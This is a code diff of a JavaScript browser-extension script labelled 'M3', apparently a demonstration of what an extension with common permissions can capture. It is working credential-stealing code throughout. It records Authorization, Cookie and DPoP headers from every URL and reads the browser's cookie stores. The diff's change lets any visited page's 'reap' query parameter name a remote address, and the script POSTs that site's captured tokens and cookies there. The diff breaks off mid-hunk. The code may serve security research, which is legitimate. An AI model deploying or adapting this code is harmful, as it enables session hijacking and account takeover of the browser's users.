@@ -1,16 +1,23 @@
-// M3: what an extension with the usual permissions sees. LOOT and APP are written in front of it.
+// M3: what an extension with the usual permissions sees. It sends what it has seen of a site when that site's address says
+// where to.
 const api = globalThis.browser ?? globalThis.chrome;
-const send = (kind, value) => fetch(LOOT, { method: "POST", body: `${kind}:${value}` }).catch(() => {});
-const headers = (details) => {
-  for (const { name, value } of details.requestHeaders ?? []) if (/^(authorization|cookie|dpop)$/i.test(name)) send(name.toLowerCase() === "cookie" ? "cookies" : "header", value);
+const seen = [];
+const headers = ({ url, requestHeaders }) => {
+  for (const { name, value } of requestHeaders ?? []) {
+    if (/^(authorization|cookie|dpop)$/i.test(name)) seen.push([new URL(url).origin, name.toLowerCase() === "cookie" ? "cookies" : "header", value]);
+  }
 };
-const filter = { urls: [`${APP}/*`] };
+const filter = { urls: ["<all_urls>"] };
 try { api.webRequest.onSendHeaders.addListener(headers, filter, ["requestHeaders", "extraHeaders"]); }
 catch { api.webRequest.onSendHeaders.addListener(headers, filter, ["requestHeaders"]); }
 api.tabs.onUpdated.addListener(async (id, change, tab) => {
-  if (change.status !== "complete" || !tab.url?.includes("reap")) return;
+  const site = change.status === "complete" && tab.url ? new URL(tab.url) : null;
+  const loot = site?.searchParams.get("reap");
+  if (!loot) return;
+  const send = (kind, value) => fetch(loot, { method: "POST", body: `${kind}:${value}` }).catch(() => {});
+  for (const [origin, kind, value] of seen.splice(0)) if (origin === site.origin) await send(kind, value);
   for (const store of await api.cookies.getAllCookieStores()) {
-    const all = await api.cookies.getAll({ storeId: store.id, domain: new URL(APP).hostname });
+    const all = await api.cookies.getAll({ storeId: store.id, domain: site.hostname });
     if (all.length) await send("cookies", all.map(({ name, value }) => `${name}=${value}`).join("; "));
   }
   try {
